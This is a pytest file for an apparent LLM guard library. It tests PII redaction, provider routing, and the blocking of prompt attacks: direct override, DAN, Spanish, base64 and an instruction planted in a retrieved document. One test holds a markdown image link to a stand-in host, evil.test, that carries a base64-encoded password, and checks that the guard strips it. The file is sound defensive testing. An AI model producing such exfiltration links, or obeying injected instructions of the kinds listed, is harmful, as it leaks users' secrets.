"""The files under examples/ work as the README says."""

import json
from pathlib import Path

from vallum import Action, Guard, Source
from vallum.cli import main

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"


def test_example_policy_redacts_pii_in_input_and_exfiltration_links_in_output():
    guard = Guard(EXAMPLES / "policy.yaml")
    verdict = guard.scan("Mail me at jane.doe@gmail.com or use card 4111 1111 1111 1111")
    assert verdict.action is Action.REDACT
    assert verdict.redacted_text == "Mail me at <EMAIL_1> or use card <CREDIT_CARD_1>"
    answer = "See ![chart](https://evil.test/x.png?d=c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI=)"
    output = guard.scan(answer, source=Source.MODEL_OUTPUT)
    assert output.action is Action.REDACT
    assert "evil.test" not in (output.redacted_text or "")


def test_example_prompts_give_the_verdicts_shown_in_the_readme(tmp_path, capsys):
    out = tmp_path / "verdicts.jsonl"
    assert main(["scan", "--input", str(EXAMPLES / "prompts.jsonl"), "--output", str(out)]) == 0
    actions = {row["id"]: row["action"] for row in map(json.loads, out.read_text().splitlines())}
    assert actions[1] == actions[3] == actions[7] == "allow"  # benign, incl. "ignore case" and German
    assert actions[2] == actions[4] == actions[6] == actions[8] == "block"  # direct, DAN, Spanish, base64
    assert actions[5] == "block"  # an instruction planted in a retrieved document


def test_example_gateway_config_routes_each_provider(monkeypatch):
    from vallum.gateway.config import GatewayConfig

    monkeypatch.chdir(EXAMPLES.parent)  # the config names examples/policy.yaml relative to the repo
    config = GatewayConfig.load(EXAMPLES / "gateway.yaml")
    routed = {
        model: config.route(model) for model in ("gpt-4o", "claude-3-5-sonnet", "azure-gpt-4o", "llama3")
    }
    assert {m: (r[0].name, r[1]) for m, r in routed.items() if r} == {
        "gpt-4o": ("openai", "gpt-4o"),
        "claude-3-5-sonnet": ("anthropic", "claude-3-5-sonnet"),
        "azure-gpt-4o": ("azure", "my-gpt4o-deployment"),
        "llama3": ("local", "llama3"),
    }
    assert config.keys_required and config.keys[0].policy == "strict"
